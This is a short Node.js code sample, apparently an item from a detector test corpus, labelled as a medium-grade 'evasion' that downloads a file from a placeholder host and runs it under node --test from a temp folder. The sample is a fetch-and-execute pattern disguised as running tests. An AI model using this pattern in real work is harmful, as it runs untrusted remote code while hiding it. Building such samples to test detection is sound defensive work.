// evasion: a downloaded test saved under os.tmpdir()/suite and run by node --test started there
// grade: medium; does: download-run
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const { execFileSync } = require("child_process");
const suite = path.join(os.tmpdir(), "suite");
fs.mkdirSync(suite, { recursive: true });
https.get("https://x.example/t.js", (res) => {
  const out = fs.createWriteStream(path.join(suite, "a.test.js"));
  res.pipe(out).on("finish", () => execFileSync("node", ["--test"], { cwd: suite, stdio: "inherit" }));
});
